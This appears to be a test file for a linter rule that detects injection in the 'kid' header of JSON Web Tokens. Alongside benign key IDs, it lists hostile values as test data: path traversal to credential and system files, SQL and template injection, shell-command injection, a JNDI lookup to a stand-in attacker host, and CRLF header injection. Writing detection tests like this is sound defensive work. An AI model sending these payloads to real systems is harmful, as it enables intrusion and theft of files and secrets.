import rule from '../../../src/rules/jwt/kid-injection.ts'
import { testRule } from '../../rule-tester.ts'
import { unsigned } from '../../tokens.ts'

const token = (kid: unknown) => unsigned({ alg: 'HS256', kid })
const silent = (name: string, kid: string) => ({ name, code: token(kid) })
const attack = (kid: string, says: string) => ({ name: JSON.stringify(kid), code: token(kid), errors: [{ messageId: 'payload', severity: 'error' as const, pointer: 'header.kid', says }] })

testRule(rule, {
  valid: [
    { name: 'none', code: unsigned({ alg: 'HS256' }) },
    silent('a date', '2011-04-29'),
    silent('empty', ''),
    silent('a UUID', '018c0ae5-4d9b-471b-bfd6-eef314bc7037'),
    silent('a thumbprint (RFC 7638)', 'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs'),
    silent('base64url with two hyphens', 'Ab--cdEFghIJklMNopQRstUVwxYZ0123456789--_-A'),
    silent('base64 with slashes inside', 'q/+3Zz8a/Bc1dEfGhIjKlMnOpQ8='),
    silent('padded base64 that starts with a slash', '/7wvc4u8RZH3AZ5jXqQhmYmRh0k='),
    silent('the nested form that ADFS and Auth0 use', 'RkI5MjI5OUY5ODc1N0Q4QzM0OUYzNkVGMTJDOUEzQkFCOTU3NjE2Rg'),
    silent('an e-mail address (RFC 7520)', 'bilbo.baggins@hobbiton.example'),
    silent('a name with spaces', 'signing key for orders or billing'),
    silent('an ARN', 'arn:aws:kms:eu-west-1:111122223333:key/mrk-4302ec1b670f48a98ad61dade4a23be7'),
    silent('a key version of Google Cloud', 'projects/p/locations/global/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1'),
    silent('two dots that lead nowhere', 'v1..2'),
    silent('a word that ends like a scheme', 'candid:1'),
    silent('256 characters', 'k'.repeat(256)),
  ],
  invalid: [
    { name: 'a number', code: token(5), errors: [{ messageId: 'notString', severity: 'error', confidence: 'certain' }] },
    { name: 'null', code: token(null), errors: [{ messageId: 'notString' }] },
    attack('../../../../../../../dev/null', 'path traversal and a device file'),
    attack('..\\..\\windows\\win.ini', 'path traversal'),
    attack('....//....//etc/passwd', 'path traversal'),
    attack('%2e%2e%2fetc%2fpasswd', 'path traversal'),
    attack('keys/..', 'path traversal'),
    attack('..%252f..%252fdev%252fnull', 'path traversal'),
    attack('~/.ssh/id_rsa', 'an absolute path'),
    attack('1 AND 1=1', 'SQL'),
    attack('{{7*7}}', 'a template expression'),
    attack('#{7*7}', 'a template expression'),
    attack('/dev/null', 'an absolute path and a device file'),
    attack('/etc/passwd', 'an absolute path'),
    attack('\\\\host\\share', 'an absolute path'),
    attack('C:\\keys\\a.pem', 'an absolute path'),
    attack('file:///proc/self/environ', 'an absolute path'),
    attack('key\u0000.pem', 'control character'),
    attack('a\r\nX-Injected: 1', 'control character'),
    attack("x' UNION SELECT 'secret' -- ", 'quotation mark and SQL'),
    attack('1 OR 1=1', 'SQL'),
    attack('1 union all select 2', 'SQL'),
    attack('0 or x =x', 'SQL'),
    attack('key.pem; id', 'shell syntax'),
    attack('key|id', 'shell syntax'),
    attack('$(id)', 'shell syntax'),
    attack('${jndi:ldap://evil.example/a}', 'shell syntax'),
    attack('`id`', 'quotation mark'),
    attack('<script>', 'shell syntax'),
    attack('https://a.example/../b', 'path traversal'),
    // Padded base64 is let through as a whole only: these have the length of some.
    attack('../../../../q3Zz8aBc1dEfGhIjKlMnOpQ8xy==', 'path traversal'),
    attack("q3Zz8aBc1dEfGhIjKlMnOp==' UNION SELECT 'k'--", 'quotation mark and SQL'),
    { name: '257 characters', code: token('k'.repeat(257)), errors: [{ messageId: 'long', severity: 'warn', says: '257' }] },
    { name: 'a DID', code: token('did:example:123#key-1'), errors: [{ messageId: 'address', severity: 'info', says: '(did:)' }] },
    { name: 'a scheme in capitals', code: token('DID:example:123#key-1'), errors: [{ messageId: 'address', severity: 'info', says: 'did' }] },
    { name: 'a URL with a fragment', code: token('https://issuer.example/keys#1'), errors: [{ messageId: 'address', severity: 'info', says: 'https' }] },
  ],
})
